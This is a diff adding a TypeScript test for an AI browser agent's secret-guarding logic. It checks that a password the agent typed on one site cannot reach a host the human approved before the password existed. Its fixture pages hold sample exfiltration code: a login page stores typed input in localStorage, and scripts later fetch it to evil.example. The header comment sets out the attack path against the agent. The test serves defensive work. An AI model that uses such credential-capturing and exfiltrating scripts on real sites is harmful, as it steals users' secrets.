@@ -1,0 +1,84 @@
+// A host the human allowed for what the agent read is not allowed a password typed after (core/guardState.ts
+// recordTypedSecret). Found by an attack review: the human let evil.example receive requests after a read of
+// github.com (a taint question about navigating there); the agent then typed a declared secret on login.example,
+// whose page kept it in storage; a later page of login.example read it back and sent it to evil.example, judged
+// against the hosts allowed before the secret existed. Assertions are on what evil.example received.
+
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
+import { type InProcessBrowser, startInProcess } from '../helpers/inProcessMcp.ts';
+import { refOf } from '../helpers/mcpClient.ts';
+
+let site: Fixture;
+let tw: InProcessBrowser;
+const secret = 'pw-allowed-host-5521';
+const url = (host: string, path: string) => site.url(host, path);
+const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+before(async () => {
+  const sendKept = (delayMs: number) =>
+    `<script>setTimeout(() => fetch('https://evil.example:${site.port}/k?d=' + encodeURIComponent(localStorage.getItem('kept') || 'none'), { mode: 'no-cors' }), ${delayMs});</script>`;
+  site = await startFixture(
+    {
+      '/settings/profile': (_req, _body, res) => html(res, '<title>Profile</title><p>profile</p>'),
+      '/blog': (_req, _body, res) => html(res, '<title>Blog</title><p>a post</p>'),
+      '/k': (_req, _body, res) => void res.writeHead(204).end(),
+      '/login': (_req, _body, res) =>
+        html(
+          res,
+          `<title>Sign in</title><input type="password" aria-label="Password"><a href="/home">Continue</a>
+          <script>document.querySelector('input').addEventListener('input', (e) => localStorage.setItem('kept', e.target.value));</script>`,
+        ),
+      '/home': (_req, _body, res) => html(res, `<title>Home</title><p>Welcome</p>${sendKept(1_000)}`),
+      '/account': (_req, _body, res) =>
+        html(res, `<title>Account</title><p>Your account</p>${sendKept(500)}${sendKept(2_500)}`),
+    },
+    { tls: true },
+  );
+  tw = await startInProcess({ secrets: `LOGIN_PASSWORD@${url('login.example', '')}=${secret}\n` });
+});
+
+after(async () => {
+  await tw?.close();
+  await site?.close();
+});
+
+test('a host allowed after a read does not take a secret typed later; it is asked about again', async () => {
+  const mcp = await tw.connect();
+  mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
+  try {
+    await mcp.call('navigate_page', { url: url('github.com', '/settings/profile') });
+    await mcp.call('take_snapshot');
+    // The human lets evil.example receive requests for the rest of the session (the read's taint question).
+    const allowed = await mcp.call('navigate_page', { url: url('evil.example', '/blog') });
+    assert.equal(allowed.isError, false, allowed.text);
+    assert.match(
+      mcp.human.questions.join('\n'),
+      /approving lets https:\/\/evil\.example:\d+ receive requests/,
+    );
+    await mcp.call('navigate_page', { url: url('login.example', '/login') });
+    const snapshot = await mcp.call('take_snapshot');
+    const filled = await mcp.call('fill', {
+      ref: refOf(snapshot.text, 'Password'),
+      secret: 'LOGIN_PASSWORD',
+    });
+    assert.equal(filled.isError, false, filled.text);
+    const signedIn = await mcp.call('take_snapshot');
+    await mcp.call('click', { ref: refOf(signedIn.text, 'Continue') });
+    await pause(3_000);
+    await mcp.call('navigate_page', { url: url('login.example', '/account') });
+    // Sent 0.5 and 2.5 s after the page loaded: once the action that typed it is long over.
+    await pause(4_000);
+    const sent = site.seen.filter(
+      (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
+    );
+      console.log(
+        'EVIL GOT',
+        site.seen.filter((r) => r.host.startsWith('evil.example:')).map((r) => r.path),
+      );
+    assert.deepEqual(sent, [], 'the typed secret reached evil.example');
+  } finally {
+    await mcp.close();
+  }
+});
